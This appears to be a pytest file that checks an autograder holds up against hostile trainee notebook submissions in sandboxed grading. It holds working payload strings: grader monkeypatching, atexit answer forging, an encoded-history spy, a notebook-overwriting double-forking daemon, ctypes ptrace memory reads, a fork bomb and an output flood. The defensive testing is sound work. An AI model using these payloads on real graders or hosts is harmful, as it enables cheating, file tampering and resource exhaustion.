"""Hostile submissions of the REAL ex2 exercise, graded through the CLI in one cohort: exact scores.

Every trainee starts from the instructor's solutions typed into the released notebook (12 autograded points;
the written answers wait for a trainer) and then tries one trick. The hidden checks run outside the trainee's
kernel on the answer values taken out of it as data, so a trick earns nothing and reveals nothing; answers made
wrong on purpose lose exactly their own points. A second, lone run grades the 100 MB printer again (same score
alone as in the cohort) against a copy of the course data named by ``CLUSTERKIT_CASES`` (the sandbox mounts the
data clusterkit resolves to). A third run is killed with SIGKILL mid-cohort: no process it started survives
(checked by PID) and the rerun gives the same grades.
"""

from __future__ import annotations

import base64
import binascii
import codecs
import csv
import hashlib
import html
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest

from autograder import cohort
from autograder.feedback import hidden_fragments
from autograder.sandbox import bwrap_works

ROOT = Path(__file__).resolve().parents[1]
A = "ex2-clean-energy-value-chain"

pytestmark = [
    pytest.mark.slow,
    pytest.mark.xdist_group("autograder-hostile"),
    pytest.mark.skipif(not (ROOT / "exercises" / "source" / A).is_dir(), reason=f"{A} not in exercises"),
]

ARGS = ["--assignment", A, "--jobs", "2", "--cell-timeout", "20", "--memory-mb", "1536", "--quiet"]
SANDBOX = [] if bwrap_works() else ["--no-sandbox"]

REBIND_G = """
class AlwaysPass:
    def __getattr__(self, name):
        return lambda *args, **kwargs: None
g = AlwaysPass()
"""
SYS_MODULES = """
import sys, types
fake = types.ModuleType("clusterkit.grading")
fake.__getattr__ = lambda name: (lambda *args, **kwargs: None)
sys.modules["clusterkit.grading"] = fake
import clusterkit
clusterkit.grading = fake
from clusterkit import grading as g
"""
NP_PATCH = """
g.np.isclose = lambda a, b, *args, **kwargs: g.np.ones(g.np.broadcast(a, b).shape, dtype=bool)
g.np.allclose = lambda *args, **kwargs: True
"""
LIAR = """
class Liar(pd.DataFrame):
    @property
    def _constructor(self):
        return Liar
    def __eq__(self, other):
        return True
    def equals(self, other):
        return True
q1_value_added = Liar(q1_value_added * 3)
"""
SPY = """
import base64, codecs, gc, inspect, sys
def _spill(text):
    text = str(text)
    print("B64", base64.b64encode(text.encode()).decode())
    print("HEX", text.encode().hex())
    print("R13", codecs.encode(text, "rot13"))
def _hook(info):
    _spill(info.raw_cell)
    _spill([f.f_code.co_consts for f, _ in inspect.getouterframes(inspect.currentframe())][:5])
get_ipython().events.register("pre_run_cell", _hook)
get_ipython().events.register("post_run_cell", lambda result: _spill(getattr(result.info, "raw_cell", "")))
sys.setprofile(lambda frame, event, arg: None)
_found = [o for o in gc.get_objects() if isinstance(o, str) and ("HIDDEN" in o or "_ref" in o)]
_spill(_found[:200])
"""
SPY_END = """
_spill("\\n".join(In))
_spill(_found + [o for o in gc.get_objects() if isinstance(o, str) and ("expect_close" in o or "_load(" in o)])
"""
ATEXIT = """
import atexit, glob, json, os
_right = q6_wind_jobs
def _forge():
    for path in glob.glob(os.path.join(os.getcwd(), ".autograder-answers", "*.json")):
        with open(path, "w") as fh:
            json.dump({"q6_wind_jobs": _right}, fh)
atexit.register(_forge)
q6_wind_jobs = 2 * q6_wind_jobs
"""
WRITER = """
import glob, os, subprocess
for pattern in ["/tmp/**/*.ipynb", "/work/**/*.ipynb", "/root/**/*.ipynb", os.path.expanduser("~") + "/**/*.ipynb",
                os.path.dirname(os.getcwd()) + "/**/*.ipynb"]:
    for path in glob.glob(pattern, recursive=True):
        try:
            with open(path, "a") as fh:
                fh.write("FORGED-" + "BY-WRITER")
            print("wrote", path)
        except OSError:
            pass
# a process meant to outlive the kernel: its own session, double-forked
subprocess.Popen(["setsid", "sleep", "600"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import time
        time.sleep(600)
    os._exit(0)
"""
CTYPES = """
import ctypes, os
libc = ctypes.CDLL(None)
print("ptrace", libc.ptrace(16, os.getppid(), 0, 0))  # PTRACE_ATTACH to the executor
class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
buf = ctypes.create_string_buffer(4096)
local, remote = IoVec(ctypes.addressof(buf), 4096), IoVec(0x400000, 4096)
print("vm_readv", libc.process_vm_readv(os.getppid(), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))
q6_wind_jobs = 2 * q6_wind_jobs
"""
FORK_BOMB = """
import os, time
while True:
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:  # every child forks on until the process limit stops it, then stays
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(600)
"""
FLOOD = """
import sys
chunk = "x" * 1_000_000
for _ in range(100):
    sys.stdout.write(chunk)
"""


def _personas(sol: dict[str, str]) -> dict[str, tuple[dict[str, str], float]]:
    """trainee -> (answer code per grade id, expected autograded score of 12)."""
    q1, q2, q3, q4, q5, q6 = (
        "q1_value_added",
        "q2_input_leakage",
        "q3_main_leaks",
        "q4_output_multipliers",
        "q5_linkages",
        "q6_wind_jobs",
    )
    twice = {k: f"{sol[k]}\n{k} = 2 * {k}\n" for k in (q2, q4, q5, q6)}
    return {
        "correct": (sol, 12.0),
        "rebind-g": ({**sol, q6: twice[q6] + REBIND_G}, 10.0),
        "sys-modules": ({**sol, q5: twice[q5] + SYS_MODULES}, 10.0),
        "np-isclose": ({**sol, q2: twice[q2] + NP_PATCH, q5: twice[q5]}, 8.0),
        "frame-liar": ({**sol, q1: sol[q1] + LIAR}, 10.0),
        "spy": ({**sol, q1: SPY + sol[q1], q6: sol[q6] + SPY_END}, 12.0),
        "atexit": ({**sol, q6: sol[q6] + ATEXIT}, 10.0),
        "writer": ({**sol, q3: sol[q3] + WRITER}, 12.0),
        "ctypes": ({**sol, q6: sol[q6] + CTYPES}, 10.0),
        "fork-bomb": ({**sol, q4: FORK_BOMB + sol[q4]}, 12.0),
        "flood": ({**sol, q1: sol[q1] + FLOOD}, 12.0),
        "metadata": (sol, 12.0),
        "cells": (sol, 10.0),
        "blank": ({}, 0.0),
    }


def _tamper(name: str, nb) -> None:
    """Metadata and cell-order tampering; answers stay the instructor's (except a deleted one)."""
    by_gid = {c.metadata.get("nbgrader", {}).get("grade_id"): c for c in nb.cells}
    if name == "metadata":
        by_gid["check_q2_input_leakage"].metadata.nbgrader["grade_id"] = "check_renamed"
        by_gid["check_q4_output_multipliers"].metadata.nbgrader["points"] = 100
        by_gid["check_q5_linkages"].metadata.nbgrader["locked"] = False
        by_gid["check_q5_linkages"].metadata.nbgrader["checksum"] = "0" * 32
        by_gid["q1_value_added"].metadata.nbgrader["grade_id"] = "q1_renamed"
        q3 = by_gid["q3_main_leaks"]
        q3.cell_type = "markdown"
        del q3["outputs"], q3["execution_count"]
    if name == "cells":
        q4 = by_gid["q4_output_multipliers"]
        nb.cells = [
            c
            for c in nb.cells
            if c is not q4
            and c.metadata.get("nbgrader", {}).get("grade_id") not in ("check_q1_value_added", "q6_wind_jobs")
        ]
        nb.cells.append(q4)  # moved after its check: put back in place


def _ran_at_home(nb) -> None:
    """The spy as its author ran it before submitting: its first answer cell's output holds the encoded input
    history of the trainee's own kernel (the released notebook's code and their answers, never a hidden check)."""
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "q1_value_added")
    history = "\n".join(c.source for c in nb.cells[: nb.cells.index(cell) + 1] if c.cell_type == "code")
    text = (
        f"R13 {codecs.encode(history, 'rot13')}\n"
        f"B64 {base64.b64encode(history.encode()).decode()}\n"
        f"HEX {history.encode().hex()}\n"
    )
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text=text)]


def _grade(subs: Path, course: Path, env: dict | None = None, wait: bool = True):
    cmd = [
        sys.executable,
        "-m",
        "autograder",
        "grade",
        str(subs),
        "--course-dir",
        str(course),
        *ARGS,
        *SANDBOX,
    ]
    if not wait:
        return subprocess.Popen(cmd, cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=env)
    proc = subprocess.Popen(cmd, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
    out, err = proc.communicate(timeout=900)
    return subprocess.CompletedProcess([proc.pid], proc.returncode, out, err)


def _scores(course: Path) -> dict[str, float]:
    with open(course / "grades.csv") as fh:
        return {row["trainee"]: float(row[A]) for row in csv.DictReader(fh)}


def _write(subs: Path, sid: str, nb) -> None:
    (subs / sid).mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, subs / sid / f"{A}.ipynb")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    course = base / "course"
    from autograder.common import Settings
    from autograder.course import prepare

    prepare(course, ROOT / "exercises", Settings(), [A])
    source = nbformat.read(course / "source" / A / f"{A}.ipynb", as_version=4)
    release = nbformat.read(course / "release" / A / f"{A}.ipynb", as_version=4)
    personas = _personas(cohort.solutions(source))
    for sid, (code, _) in personas.items():
        nb = cohort.submission(release, code)
        _tamper(sid, nb)
        if sid == "spy":
            _ran_at_home(nb)
        _write(base / "subs", sid, nb)
    digests = {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in (base / "subs").rglob("*.ipynb")}
    proc = _grade(base / "subs", course)
    results = {
        sid: json.loads((course / ".autograder" / "results" / A / f"{sid}.json").read_text())
        for sid in personas
    }
    return {
        "base": base,
        "course": course,
        "proc": proc,
        "results": results,
        "expected": {sid: score for sid, (_, score) in personas.items()},
        "source": source,
        "release": release,
        "digests": digests,
    }


def test_every_trick_gets_exactly_the_score_of_its_answers(hostile):
    assert hostile["proc"].returncode in (0, 1), hostile["proc"].stderr[-3000:]
    assert _scores(hostile["course"]) == hostile["expected"]


@pytest.mark.skipif(not os.access("/sys/fs/cgroup/pids", os.W_OK), reason="no writable pids cgroups here")
def test_a_finished_run_leaves_no_sandbox_process(hostile):
    """Each sandbox has its own cgroup, removed (only possible once empty) when the run ends: the fork bomb's
    children and the writer's double-forked, own-session sleeper are gone too."""
    run_pid = hostile["proc"].args[0]
    assert not list(Path("/sys/fs/cgroup/pids").glob(f"autograder-{run_pid}-*"))


def test_per_check_outcomes_are_recorded_in_plain_words(hostile):
    res = hostile["results"]
    assert res["correct"]["checks"]["check_q1_value_added"] == {
        "score": 2.0,
        "max": 2.0,
        "status": "pass",
        "message": "",
    }
    liar = res["frame-liar"]["checks"]["check_q1_value_added"]
    assert liar["status"] == "fail" and liar["score"] == 0 and "value-added table" in liar["message"]
    assert res["blank"]["checks"]["check_q6_wind_jobs"]["status"] == "unanswered"
    assert res["cells"]["checks"]["check_q6_wind_jobs"]["status"] in ("unanswered", "fail")
    for sid, rec in res.items():
        assert set(rec["checks"]) == {f"check_{q}" for q in cohort.solutions(hostile["source"])}, sid
        for outcome in rec["checks"].values():
            assert "expect_close" not in outcome["message"] and "_ref" not in outcome["message"]


def test_tampering_costs_at_most_the_tampered_cell_and_is_listed(hostile):
    res = hostile["results"]
    meta = " ".join(res["metadata"]["tampered"])
    for what in (
        "check_q2_input_leakage",
        "check_q4_output_multipliers",
        "check_q5_linkages",
        "q1_value_added",
    ):
        assert what in meta, meta
    assert "cell type" in meta and "points" in meta and "locked" in meta
    cells = " ".join(res["cells"]["tampered"])
    assert "check_q1_value_added: cell deleted" in cells and "q6_wind_jobs: cell deleted" in cells
    assert "reordered" in cells
    assert not res["correct"]["tampered"] and not res["spy"]["tampered"]
    assert res["metadata"]["max_score"] == res["correct"]["max_score"]


def test_flood_is_capped_and_flagged(hostile):
    graded = hostile["course"] / "autograded" / "flood" / A / f"{A}.ipynb"
    assert graded.stat().st_size < 2_000_000
    assert any("output capped" in f for f in hostile["results"]["flood"]["flags"])


def test_no_submission_could_write_a_notebook(hostile):
    for path, digest in hostile["digests"].items():
        assert hashlib.sha256(path.read_bytes()).hexdigest() == digest, path
    for path in hostile["course"].rglob("*.ipynb"):
        assert b"FORGED-BY-WRITER" not in path.read_bytes(), path


def _decodings(text: str) -> list[str]:
    """The text itself, its rot13, and every base64 or hex token in it decoded."""
    out = [text, codecs.decode(text, "rot13")]
    for token in re.findall(r"[A-Za-z0-9+/=]{16,}", text):
        for decode in (lambda t: base64.b64decode(t + "=" * (-len(t) % 4)), bytes.fromhex):
            try:
                out.append(decode(token).decode("utf-8", "replace"))
            except (ValueError, binascii.Error):
                pass
    return out


def test_no_feedback_page_holds_hidden_checks_or_solutions_even_decoded(hostile):
    course = hostile["course"]
    fragments = [f for f in hidden_fragments(hostile["source"], hostile["release"]) if len(f) >= 12]
    assert fragments
    public = "\n".join(c.source for c in hostile["release"].cells)
    solution_lines = {
        line.strip()
        for code in cohort.solutions(hostile["source"]).values()
        for line in code.splitlines()
        if len(line.strip()) > 12 and line.strip() not in public
    }
    pages = sorted((course / "feedback").rglob("*.html"))
    assert len(pages) == len(hostile["expected"])
    spied = False
    for page in pages:
        sid = page.relative_to(course / "feedback").parts[0]
        own = (course / "submitted" / sid / A / f"{A}.ipynb").read_text()
        blocks = [html.unescape(b) for b in re.findall(r"<pre[^>]*>(.*?)</pre>", page.read_text(), re.S)]
        for block in blocks:
            for text in _decodings(block):
                spied |= "### BEGIN SOLUTION" not in text and "q1_value_added" in text and text != block
                for frag in fragments:
                    assert frag not in text, f"{page}: hidden check text {frag!r}"
                for line in solution_lines:
                    if json.dumps(line)[1:-1] not in own:
                        assert line not in text, f"{page}: solution line {line!r} the trainee did not write"
    # control: the spy's own encoded output (made in its author's kernel) is on its page and was decoded above;
    # what it printed while being graded is not (pages show the submitted notebook, never the grading run's outputs)
    assert spied, "the spy's own encoded output is not on its feedback page, so the decoding scan saw nothing"


def _descendants(pid: int) -> dict[int, str]:
    """{pid: start time} of every live descendant of ``pid`` (by /proc parent links)."""
    children: dict[int, list[int]] = {}
    starts: dict[int, str] = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                stat = Path(f"/proc/{entry}/stat").read_text()
            except OSError:
                continue
            fields = stat.rsplit(")", 1)[1].split()
            children.setdefault(int(fields[1]), []).append(int(entry))
            starts[int(entry)] = fields[19]
    out, todo = {}, [pid]
    while todo:
        for child in children.get(todo.pop(), []):
            out[child] = starts.get(child, "")
            todo.append(child)
    return out


def _alive(pid: int, start: str) -> bool:
    try:
        fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    except OSError:
        return False
    return fields[19] == start and fields[0] != "Z"


def test_alone_with_the_data_clusterkit_resolves_to_the_flood_gets_the_cohort_score(hostile, tmp_path):
    """The 100 MB printer graded alone: same score; the course data come from a changed copy named by
    CLUSTERKIT_CASES, which the sandbox mounts (answers and references both computed from it)."""
    from clusterkit.data import cases_root

    cases = tmp_path / "elsewhere" / "cases"
    shutil.copytree(cases_root(), cases)
    # the copy differs from the checkout's data: the answers (kernel) and the references (grader) agree only if
    # both load the copy
    chain = cases / "izmir-clean-energy" / "data" / "value_chain.csv"
    text = chain.read_text()
    assert ",38.4,15.8," in text
    chain.write_text(text.replace(",38.4,15.8,", ",48.4,15.8,"))
    subs = tmp_path / "subs"
    shutil.copytree(hostile["course"] / "submitted" / "flood" / A, subs / "flood")
    (subs / "flood" / "timestamp.txt").unlink(missing_ok=True)
    course = tmp_path / "course"
    proc = _grade(subs, course, env={**os.environ, "CLUSTERKIT_CASES": str(cases)})
    assert proc.returncode in (0, 1), proc.stderr[-3000:]
    assert _scores(course) == {"flood": hostile["expected"]["flood"]}


def test_kill_9_leaves_no_process_and_the_rerun_grades_the_same(hostile, tmp_path):
    subs = tmp_path / "subs"
    for sid in ("correct", "np-isclose", "fork-bomb", "writer", "blank", "rebind-g"):
        shutil.copytree(hostile["course"] / "submitted" / sid / A, subs / sid)
    course = tmp_path / "course"
    proc = _grade(subs, course, wait=False)
    seen: dict[int, str] = {}
    deadline = time.monotonic() + 240
    results = course / ".autograder" / "results" / A
    while time.monotonic() < deadline:
        seen.update(_descendants(proc.pid))
        if results.is_dir() and any(results.glob("*.json")):
            break
        time.sleep(0.2)
    assert proc.poll() is None, "the run ended before it could be killed"
    seen.update(_descendants(proc.pid))
    assert len(seen) >= 4, seen  # pool workers, sandboxes, executors, kernels
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    time.sleep(3)
    left = {pid for pid, start in seen.items() if _alive(pid, start)}
    assert not left, {pid: Path(f"/proc/{pid}/cmdline").read_bytes()[:80] for pid in left}
    cgroups = [p for p in Path("/sys/fs/cgroup/pids").glob(f"autograder-{proc.pid}-*")]
    assert all(not (p / "cgroup.procs").read_text().strip() for p in cgroups)
    rerun = _grade(subs, course)
    assert rerun.returncode in (0, 1), rerun.stderr[-3000:]
    assert _scores(course) == {sid: hostile["expected"][sid] for sid in os.listdir(subs)}
